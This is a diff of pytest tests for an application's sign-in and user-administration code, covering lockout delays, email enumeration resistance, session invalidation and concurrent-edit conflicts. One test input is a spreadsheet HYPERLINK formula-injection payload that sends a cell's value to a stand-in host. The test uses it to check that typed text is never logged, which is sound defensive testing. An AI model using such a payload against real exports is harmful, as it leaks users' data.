@@ -26,7 +26,6 @@ from xchange.auth import (
     check_password_policy,
     hash_password,
     list_users,
-    lock_duration,
     session_expired,
     set_active,
     set_password,
@@ -35,8 +34,9 @@ from xchange.auth import (
     verify_password,
 )
 from xchange.db import LOCAL_ADMIN_EMAIL, read_session, write_session
-from xchange.errors import InvalidInput, NotFound, PermissionDenied, SignInRefused
-from xchange.models import AuditEvent, Partnership, Role, User, utcnow
+from xchange.errors import InvalidInput, NotFound, PermissionDenied, SignInRefused, StaleRecord
+from xchange.models import AuditEvent, Partnership, Role, SignInAttempt, User, utcnow
+from xchange.sign_in_attempts import account_key, client_key, lock_duration
 
 NOW = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
 ADMIN_PASSWORD = "admin passphrase 1"
@@ -105,17 +105,28 @@ def _events(engine: Engine, *actions: str) -> list[AuditEvent]:
         return list(session.exec(query).all())
 
 
-def _sign_in(engine: Engine, email: str, password: str, now: datetime = NOW) -> User:
+def _sign_in(
+    engine: Engine, email: str, password: str, now: datetime = NOW, client: str | None = None
+) -> User:
     with read_session(engine) as session:
-        return authenticate(session=session, email=email, password=password, now=now)
+        return authenticate(session=session, email=email, password=password, client=client, now=now)
 
 
-def _refusal(engine: Engine, email: str, password: str, now: datetime = NOW) -> str:
+def _refusal(
+    engine: Engine, email: str, password: str, now: datetime = NOW, client: str | None = None
+) -> str:
     with pytest.raises(SignInRefused) as caught:
-        _sign_in(engine, email, password, now)
+        _sign_in(engine, email, password, now, client)
     message = str(caught.value)
     assert not password or password not in message
     return message
+
+
+def _lock(engine: Engine, email: str, client: str | None = None) -> datetime | None:
+    """When the lock on `email` (as typed) for `client` ends, as stored."""
+    with read_session(engine) as session:
+        row = session.get(SignInAttempt, (account_key(email), client_key(client)))
+        return None if row is None else row.locked_until
 
 
 def _assert_no_secrets(engine: Engine, *passwords: str) -> None:
@@ -226,23 +237,23 @@ def test_sign_in_matches_the_email_in_any_case(engine: Engine, world: World) -> 
 
 
 @pytest.mark.parametrize(
-    ("email", "password", "counted"),
+    ("email", "password", "label", "counted"),
     [
-        ("nobody@x.eu", COORD_PASSWORD, False),  # unknown email
-        ("coord@x.eu", WRONG_PASSWORD, True),
-        ("coord@x.eu", COORD_PASSWORD.upper(), True),  # passwords are case-sensitive
-        ("coord@x.eu", "", True),
-        (LOCAL_ADMIN_EMAIL, "", False),  # no password: never signs in by password
-        (LOCAL_ADMIN_EMAIL, COORD_PASSWORD, False),
+        ("nobody@x.eu", COORD_PASSWORD, "unknown email", False),  # unknown email
+        ("coord@x.eu", WRONG_PASSWORD, "coord@x.eu", True),
+        ("coord@x.eu", COORD_PASSWORD.upper(), "coord@x.eu", True),  # case-sensitive
+        ("coord@x.eu", "", "coord@x.eu", True),
+        (LOCAL_ADMIN_EMAIL, "", LOCAL_ADMIN_EMAIL, False),  # never signs in by password
+        (LOCAL_ADMIN_EMAIL, COORD_PASSWORD, LOCAL_ADMIN_EMAIL, False),
     ],
 )
 def test_one_message_for_every_wrong_credential(
-    engine: Engine, world: World, email: str, password: str, counted: bool
+    engine: Engine, world: World, email: str, password: str, label: str, counted: bool
 ) -> None:
     assert _refusal(engine, email, password) == WRONG_CREDENTIALS
     [event] = _events(engine, "sign_in_failed", "sign_in_locked")
     assert (event.action, event.entity, event.actor_id) == ("sign_in_failed", "user", None)
-    assert event.actor_label == email and event.changes == {}
+    assert event.actor_label == label and event.changes == {}
     assert event.at == NOW
     expected_id = None if email == "nobody@x.eu" else user_by_id_of(engine, email)
     assert event.entity_id == expected_id
@@ -256,36 +267,54 @@ def user_by_id_of(engine: Engine, email: str) -> int | None:
         return None if user is None else user.id
 
 
-def test_typed_email_is_recorded_lower_cased_and_truncated(engine: Engine, world: World) -> None:
-    typed = "X" * 400 + "@X.EU"
+@pytest.mark.parametrize(
+    "typed",
+    [
+        '=HYPERLINK("http://example.invalid/?leak="&A1,"Sign in again")',
+        COORD_PASSWORD,  # a password typed into the Email field by mistake
+        "X" * 400 + "@X.EU",
+        "Nobody@X.eu",
+    ],
+)
+def test_the_text_typed_as_email_is_never_recorded(
+    engine: Engine, world: World, typed: str
+) -> None:
     _refusal(engine, typed, WRONG_PASSWORD)
     [event] = _events(engine, "sign_in_failed")
-    assert event.actor_label == typed.lower()[:320]
+    assert (event.actor_label, event.entity_id) == ("unknown email", None)
+    with read_session(engine) as session:
+        stored = [row.model_dump() for row in session.exec(select(SignInAttempt)).all()]
+    assert typed.lower() not in json.dumps([event.model_dump(mode="json"), stored], default=str)
+
+
+def test_a_known_email_is_recorded_as_the_account(engine: Engine, world: World) -> None:
+    _refusal(engine, "  COORD@x.EU ", WRONG_PASSWORD)
+    [event] = _events(engine, "sign_in_failed")
+    assert (event.actor_label, event.entity_id) == ("coord@x.eu", world.coordinator_id)
 
 
 def test_deactivated_account_is_told_only_after_the_right_password(
     engine: Engine, world: World
 ) -> None:
-    with write_session(engine) as session:
-        admin = session.get(User, world.admin_id)
-        assert admin is not None
-        set_active(session=session, actor=admin, user_id=world.coordinator_id, active=False)
+    _deactivate(engine, world)
     # A wrong password says nothing about the account.
     assert _refusal(engine, "coord@x.eu", WRONG_PASSWORD) == WRONG_CREDENTIALS
     assert _refusal(engine, "coord@x.eu", COORD_PASSWORD) == DEACTIVATED
     assert [e.action for e in _events(engine, "sign_in_failed")] == ["sign_in_failed"] * 2
 
 
-def test_failures_lock_the_account_with_a_growing_delay(engine: Engine, world: World) -> None:
+def test_failures_lock_the_email_for_the_client_with_a_growing_delay(
+    engine: Engine, world: World
+) -> None:
     for _ in range(3):
         assert _refusal(engine, "coord@x.eu", WRONG_PASSWORD) == WRONG_CREDENTIALS
-    assert _user(engine, world.coordinator_id).locked_until is None
+    assert _lock(engine, "coord@x.eu") is None
 
     # The 4th failure locks for 2 seconds; while locked even the right password is refused,
     # without being counted.
     assert _refusal(engine, "coord@x.eu", WRONG_PASSWORD) == WRONG_CREDENTIALS
-    user = _user(engine, world.coordinator_id)
-    assert (user.failed_logins, user.locked_until) == (4, NOW + timedelta(seconds=2))
+    assert _lock(engine, "coord@x.eu") == NOW + timedelta(seconds=2)
+    assert _user(engine, world.coordinator_id).failed_logins == 4
     locked = "Too many failed attempts: try again in 2 seconds."
     assert _refusal(engine, "coord@x.eu", COORD_PASSWORD) == locked
     later = NOW + timedelta(seconds=1, milliseconds=500)
@@ -297,7 +326,7 @@ def test_failures_lock_the_account_with_a_growing_delay(engine: Engine, world: W
     # The 5th failure, once the lock is over, locks for 4 seconds.
     after = NOW + timedelta(seconds=2)
     _refusal(engine, "coord@x.eu", WRONG_PASSWORD, after)
-    assert _user(engine, world.coordinator_id).locked_until == after + timedelta(seconds=4)
+    assert _lock(engine, "coord@x.eu") == after + timedelta(seconds=4)
 
     failed, locked_now = "sign_in_failed", "sign_in_locked"
     assert [e.action for e in _events(engine, failed, locked_now)] == [
@@ -309,9 +338,81 @@ def test_failures_lock_the_account_with_a_growing_delay(engine: Engine, world: W
 
     # Success after the lock resets the count.
     user = _sign_in(engine, "coord@x.eu", COORD_PASSWORD, after + timedelta(seconds=4))
-    assert (user.failed_logins, user.locked_until) == (0, None)
+    assert user.failed_logins == 0
     assert _user(engine, world.coordinator_id).failed_logins == 0
+    with read_session(engine) as session:
+        assert session.exec(select(SignInAttempt)).all() == []
     _assert_no_secrets(engine, WRONG_PASSWORD, COORD_PASSWORD)
+
+
+def _answers(engine: Engine, email: str, monkeypatch: pytest.MonkeyPatch) -> list[tuple]:
+    """What eight wrong guesses at one-second steps, then the right password, get: each answer
+    with the number of password hashes checked for it."""
+    checks: list[int] = []
+    real = auth.verify_password
+
+    def counting(password_hash: str, password: str) -> bool:
+        checks.append(1)
+        return real(password_hash, password)
+
+    monkeypatch.setattr(auth, "verify_password", counting)
+    answers = []
+    for step in range(9):
+        checks.clear()
+        moment = NOW + timedelta(seconds=step)
+        password = COORD_PASSWORD if step == 8 else WRONG_PASSWORD
+        try:
+            _sign_in(engine, email, password, moment, client="203.0.113.7")
+            answers.append(("signed in", len(checks)))
+        except SignInRefused as refused:
+            answers.append((str(refused), len(checks)))
+    return answers
+
+
+def test_an_unknown_email_gets_the_same_answers_and_delays_as_a_known_one(
+    engine: Engine, world: World, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    known = _answers(engine, "coord@x.eu", monkeypatch)
+    unknown = _answers(engine, "nobody@x.eu", monkeypatch)
+    # The right password, tried while locked, is refused unchecked for both.
+    assert known == unknown
+    assert known[:4] == [(WRONG_CREDENTIALS, 1)] * 4
+    assert known[4] == ("Too many failed attempts: try again in 1 second.", 0)
+    assert [message for message, _ in known].count(WRONG_CREDENTIALS) == 5
+    assert known[-1] == ("Too many failed attempts: try again in 1 second.", 0)
+
+
+def test_a_client_that_has_not_failed_signs_in_while_another_is_slowed(
+    engine: Engine, world: World
+) -> None:
+    attacker, owner = "198.51.100.9", "203.0.113.7"
+    # The attacker keeps guessing for hours, right up to each moment the owner signs in.
+    for minute in range(0, 600, 5):
+        moment = NOW + timedelta(minutes=minute)
+        _refusal(engine, "coord@x.eu", WRONG_PASSWORD, moment, client=attacker)
+    assert _refusal(engine, "coord@x.eu", COORD_PASSWORD, moment, client=attacker).startswith(
+        "Too many failed attempts"
+    )
+    # The owner, from another address, is never slowed: neither a typo nor the password.
+    assert _refusal(engine, "coord@x.eu", WRONG_PASSWORD, moment, client=owner) == (
+        WRONG_CREDENTIALS
+    )
+    assert _sign_in(engine, "coord@x.eu", COORD_PASSWORD, moment, client=owner).id == (
+        world.coordinator_id
+    )
+    # ... and the attacker still is.
+    locked = _lock(engine, "coord@x.eu", attacker)
+    assert locked is not None and locked > moment
+
+
+def test_counts_are_forgotten_after_a_day_without_failure(engine: Engine, world: World) -> None:
+    for _ in range(5):
+        _refusal(engine, "nobody@x.eu", WRONG_PASSWORD)
+    next_day = NOW + timedelta(days=1, seconds=1)
+    _refusal(engine, "coord@x.eu", WRONG_PASSWORD, next_day)  # any failure prunes old rows
+    assert _lock(engine, "nobody@x.eu") is None
+    for _ in range(2):
+        assert _refusal(engine, "nobody@x.eu", WRONG_PASSWORD, next_day) == WRONG_CREDENTIALS
 
 
 def test_concurrent_failures_are_all_counted(engine: Engine, world: World) -> None:
@@ -332,16 +433,24 @@ def test_concurrent_failures_are_all_counted(engine: Engine, world: World) -> No
     user = _user(engine, world.coordinator_id)
     counted = messages.count(WRONG_CREDENTIALS)
     assert user.failed_logins == counted
+    with read_session(engine) as session:
+        [row] = session.exec(select(SignInAttempt)).all()
+    assert row.failures == counted
     assert len(_events(engine, "sign_in_failed")) == 6
 
 
 def test_lock_is_capped_at_fifteen_minutes(engine: Engine, world: World) -> None:
     with write_session(engine) as session:
-        user = session.get(User, world.coordinator_id)
-        assert user is not None
-        user.failed_logins = 20
+        session.add(
+            SignInAttempt(
+                account=account_key("coord@x.eu"),
+                client=client_key(None),
+                failures=20,
+                last_failed_at=NOW,
+            )
+        )
     _refusal(engine, "coord@x.eu", WRONG_PASSWORD)
-    assert _user(engine, world.coordinator_id).locked_until == NOW + timedelta(minutes=15)
+    assert _lock(engine, "coord@x.eu") == NOW + timedelta(minutes=15)
     assert _refusal(engine, "coord@x.eu", COORD_PASSWORD) == (
         "Too many failed attempts: try again in 15 minutes."
     )
@@ -499,11 +608,13 @@ NON_ADMIN_CALLS = {
         session=s, actor=a, email="new@x.eu", role=Role.OFFICER, password=None
     ),
     "set_password": lambda s, a, uid: set_password(
-        session=s, actor=a, user_id=uid, password="a new passphrase"
+        session=s, actor=a, user_id=uid, expected_version=1, password="a new passphrase"
     ),
-    "set_active": lambda s, a, uid: set_active(session=s, actor=a, user_id=uid, active=False),
+    "set_active": lambda s, a, uid: set_active(
+        session=s, actor=a, user_id=uid, expected_version=1, active=False
+    ),
     "set_role": lambda s, a, uid: set_role_and_partnerships(
-        session=s, actor=a, user_id=uid, role=Role.ADMIN
+        session=s, actor=a, user_id=uid, expected_version=1, role=Role.ADMIN
     ),
 }
 
@@ -524,26 +635,140 @@ def test_administration_needs_an_administrator(engine: Engine, world: World, act
     _assert_no_secrets(engine, "a new passphrase")
 
 
-def test_set_password_replaces_the_hash_and_lifts_a_lock(engine: Engine, world: World) -> None:
-    for _ in range(4):
-        _refusal(engine, "coord@x.eu", WRONG_PASSWORD)
-    assert _user(engine, world.coordinator_id).locked_until is not None
+def _version(engine: Engine, user_id: int) -> int:
+    return _user(engine, user_id).version
+
+
+def _deactivate(engine: Engine, world: World, active: bool = False) -> None:
+    with write_session(engine) as session:
+        admin = session.get(User, world.admin_id)
+        assert admin is not None
+        set_active(
+            session=session,
+            actor=admin,
+            user_id=world.coordinator_id,
+            expected_version=_version(engine, world.coordinator_id),
+            active=active,
+        )
+
+
+def _new_password(engine: Engine, world: World, password: str, user_id: int | None = None) -> None:
+    user_id = world.coordinator_id if user_id is None else user_id
     with write_session(engine) as session:
         admin = session.get(User, world.admin_id)
         assert admin is not None
         set_password(
             session=session,
             actor=admin,
-            user_id=world.coordinator_id,
-            password="a brand new passphrase",
+            user_id=user_id,
+            expected_version=_version(engine, user_id),
+            password=password,
         )
+
+
+def test_set_password_replaces_the_hash_and_lifts_every_lock(engine: Engine, world: World) -> None:
+    for client in ("198.51.100.9", None):
+        for _ in range(4):
+            _refusal(engine, "coord@x.eu", WRONG_PASSWORD, client=client)
+        assert _lock(engine, "coord@x.eu", client) is not None
+    _new_password(engine, world, "a brand new passphrase")
     user = _user(engine, world.coordinator_id)
-    assert (user.failed_logins, user.locked_until) == (0, None)
+    assert (user.failed_logins, user.version) == (0, 2)
+    assert _lock(engine, "coord@x.eu", "198.51.100.9") is _lock(engine, "coord@x.eu") is None
     event = _events(engine, "update")[-1]
-    assert event.changes == {"password": "changed", "failed_logins": [4, 0]}
+    assert event.changes == {"password": "changed", "failed_logins": [8, 0], "version": [1, 2]}
     assert _refusal(engine, "coord@x.eu", COORD_PASSWORD) == WRONG_CREDENTIALS
     assert _sign_in(engine, "coord@x.eu", "a brand new passphrase").id == world.coordinator_id
     _assert_no_secrets(engine, "a brand new passphrase", COORD_PASSWORD, WRONG_PASSWORD)
+
+
+def test_a_password_change_ends_the_other_sessions(engine: Engine, world: World) -> None:
+    laptop = _sign_in(engine, "coord@x.eu", COORD_PASSWORD)
+    phone = _sign_in(engine, "coord@x.eu", COORD_PASSWORD, client="203.0.113.7")
+    assert auth.session_current(_user(engine, world.coordinator_id), laptop.session_epoch)
+    _new_password(engine, world, "a brand new passphrase")
+    now = _user(engine, world.coordinator_id)
+    assert not auth.session_current(now, laptop.session_epoch)
+    assert not auth.session_current(now, phone.session_epoch)
+    again = _sign_in(engine, "coord@x.eu", "a brand new passphrase")
+    assert auth.session_current(_user(engine, world.coordinator_id), again.session_epoch)
+
+
+def test_a_deactivation_ends_the_sessions_for_good(engine: Engine, world: World) -> None:
+    signed_in = _sign_in(engine, "coord@x.eu", COORD_PASSWORD)
+    _deactivate(engine, world)
+    assert not auth.session_current(_user(engine, world.coordinator_id), signed_in.session_epoch)
+    _deactivate(engine, world, active=True)  # reactivated: the old session stays over
+    assert not auth.session_current(_user(engine, world.coordinator_id), signed_in.session_epoch)
+
+
+@pytest.mark.parametrize("second", ["set_password", "set_active", "set_role"])
+@pytest.mark.parametrize("first", ["set_password", "set_active", "set_role"])
+def test_two_administrators_editing_one_user_the_second_is_refused(
+    engine: Engine, world: World, first: str, second: str
+) -> None:
+    edits = {
+        "set_password": lambda s, a, version: set_password(
+            session=s,
+            actor=a,
+            user_id=world.coordinator_id,
+            expected_version=version,
+            password="a new passphrase",
+        ),
+        "set_active": lambda s, a, version: set_active(
+            session=s,
+            actor=a,
+            user_id=world.coordinator_id,
+            expected_version=version,
+            active=False,
+        ),
+        "set_role": lambda s, a, version: set_role_and_partnerships(
+            session=s,
+            actor=a,
+            user_id=world.coordinator_id,
+            expected_version=version,
+            role=Role.COORDINATOR,
+            partnerships=["BETA"],
+        ),
+    }
+    read = _version(engine, world.coordinator_id)  # both opened the user at this version
+    with write_session(engine) as session:
+        admin = session.get(User, world.admin_id)
+        edits[first](session, admin, read)
+    before = _user(engine, world.coordinator_id)
+    with pytest.raises(StaleRecord) as caught, write_session(engine) as session:
+        admin = session.get(User, world.admin_id)
+        edits[second](session, admin, read)
+    assert str(caught.value).startswith("User coord@x.eu was changed by someone else")
+    assert "nothing was saved" in str(caught.value)
+    assert "a new passphrase" not in str(caught.value)
+    after = _user(engine, world.coordinator_id)
+    assert after.model_dump() == before.model_dump()  # the second wrote nothing
+    assert after.version == read + 1
+
+
+def test_concurrent_edits_of_one_user_one_wins(engine: Engine, world: World) -> None:
+    # Both read version 1 and write at once: the version check and bump are one statement.
+    def edit(active: bool) -> str:
+        try:
+            with write_session(engine) as session:
+                admin = session.get(User, world.admin_id)
+                set_role_and_partnerships(
+                    session=session,
+                    actor=admin,  # type: ignore[arg-type]
+                    user_id=world.coordinator_id,
+                    expected_version=1,
+                    role=Role.COORDINATOR,
+                    partnerships=["BETA"] if active else ["ALPHA", "BETA"],
+                )
+            return "saved"
+        except StaleRecord:
+            return "stale"
+
+    with ThreadPoolExecutor(max_workers=2) as pool:
+        outcomes = sorted(pool.map(edit, [True, False]))
+    assert outcomes == ["saved", "stale"]
+    assert _version(engine, world.coordinator_id) == 2
 
 
 @pytest.mark.parametrize(
@@ -572,7 +797,13 @@ def test_set_password_refuses(
         admin = session.get(User, world.admin_id)
         assert admin is not None
         with pytest.raises(error, match=problem) as caught:
-            set_password(session=session, actor=admin, user_id=ids[target], password=password)
+            set_password(
+                session=session,
+                actor=admin,
+                user_id=ids[target],
+                expected_version=1,
+                password=password,
+            )
     assert password not in str(caught.value)
 
 
@@ -580,15 +811,19 @@ def test_set_active(engine: Engine, world: World) -> None:
     with write_session(engine) as session:
         admin = session.get(User, world.admin_id)
         assert admin is not None
-        set_active(session=session, actor=admin, user_id=world.coordinator_id, active=False)
-        set_active(session=session, actor=admin, user_id=world.coordinator_id, active=False)
-    assert not _user(engine, world.coordinator_id).active
+        for version in (1, 2):
+            set_active(
+                session=session,
+                actor=admin,
+                user_id=world.coordinator_id,
+                expected_version=version,
+                active=False,
+            )
+    user = _user(engine, world.coordinator_id)
+    assert (user.active, user.version) == (False, 2)
     [event] = _events(engine, "update")  # the second call changed nothing, recorded nothing
-    assert event.changes == {"active": [True, False]}
-    with write_session(engine) as session:
-        admin = session.get(User, world.admin_id)
-        assert admin is not None
-        set_active(session=session, actor=admin, user_id=world.coordinator_id, active=True)
+    assert event.changes == {"active": [True, False], "version": [1, 2]}
+    _deactivate(engine, world, active=True)
     assert _user(engine, world.coordinator_id).active
 
 
@@ -605,7 +840,9 @@ def test_set_active_refuses(engine: Engine, world: World, target: str, problem: 
         admin = session.get(User, world.admin_id)
         assert admin is not None
         with pytest.raises(InvalidInput, match=problem):
-            set_active(session=session, actor=admin, user_id=user_id, active=False)
+            set_active(
+                session=session, actor=admin, user_id=user_id, expected_version=1, active=False
+            )
 
 
 def test_set_role_and_partnerships(engine: Engine, world: World) -> None:
@@ -616,18 +853,23 @@ def test_set_role_and_partnerships(engine: Engine, world: World) -> None:
             session=session,
             actor=admin,
             user_id=world.coordinator_id,
+            expected_version=1,
             role=Role.COORDINATOR,
             partnerships=["BETA"],
         )
         set_role_and_partnerships(
-            session=session, actor=admin, user_id=world.coordinator_id, role=Role.OFFICER
+            session=session,
+            actor=admin,
+            user_id=world.coordinator_id,
+            expected_version=2,
+            role=Role.OFFICER,
         )
     with read_session(engine) as session:
         listed = {u.email: (u.role, acr) for u, acr in list_users(session=session)}
     assert listed["coord@x.eu"] == ("officer", [])
     assert [e.changes for e in _events(engine, "update")] == [
-        {"partnerships": [["ALPHA"], ["BETA"]]},
-        {"role": ["coordinator", "officer"], "partnerships": [["BETA"], []]},
+        {"partnerships": [["ALPHA"], ["BETA"]], "version": [1, 2]},
+        {"role": ["coordinator", "officer"], "partnerships": [["BETA"], []], "version": [2, 3]},
     ]
 
 
@@ -657,6 +899,7 @@ def test_set_role_and_partnerships_refuses(
                 session=session,
                 actor=admin,
                 user_id=ids[target],
+                expected_version=1,
                 role=role,
                 partnerships=partnerships,
             )
